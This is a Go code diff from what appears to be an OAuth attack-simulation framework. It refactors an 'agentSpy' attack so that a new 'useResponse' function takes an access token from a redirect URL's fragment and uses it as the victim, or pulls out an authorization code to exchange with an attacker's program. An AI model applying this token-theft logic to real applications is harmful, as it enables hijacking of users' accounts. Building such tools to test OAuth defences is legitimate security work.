@@ -21,13 +21,11 @@ func agentSpy(ctx context.Context, g *attack.Given) (attack.Result, error) {
 	if err != nil {
 		return attack.Result{}, err
 	}
-	var seen loot.Loot
 	last := ""
 	for _, address := range addresses {
 		before, _, _ := strings.Cut(address, "?")
 		before, _, _ = strings.Cut(before, "#")
 		g.Say("Seen: %s …", before)
-		seen.Search([]byte(address))
 		if before == g.RedirectURI {
 			last = address
 		}
@@ -35,15 +33,24 @@ func agentSpy(ctx context.Context, g *attack.Given) (attack.Result, error) {
 	if last == "" {
 		return attack.Result{}, errors.New("no address leads back to the app")
 	}
+	g.Say("The last one leads back to the app.")
+	return useResponse(ctx, g, last)
+}
+
+// useResponse uses what an authorization response has in it, an access token or a code, with a
+// program of the attacker's own.
+func useResponse(ctx context.Context, g *attack.Given, link string) (attack.Result, error) {
+	var seen loot.Loot
+	seen.Search([]byte(link))
 	if len(seen.Tokens) > 0 {
-		g.Say("The one that leads back to the app has an access token in its fragment.")
+		g.Say("There is an access token in its fragment.")
 		return attack.RobAs(ctx, g, []protect.Identity{{ClientID: g.ClientID, Token: seen.Tokens[0]}})
 	}
-	code := codeIn(last)
+	code := codeIn(link)
 	if code == "" {
-		return attack.Result{}, errors.New("the address that leads back to the app has neither a token nor a code in it")
+		return attack.Result{}, errors.New("the address has neither a token nor a code in it")
 	}
-	g.Say("The one that leads back to the app has an authorization code in it.")
+	g.Say("There is an authorization code in it. Try to exchange it.")
 	p, err := attack.NewProgram(g, protect.Identity{ClientID: g.ClientID})
 	if err != nil {
 		return attack.Result{}, err
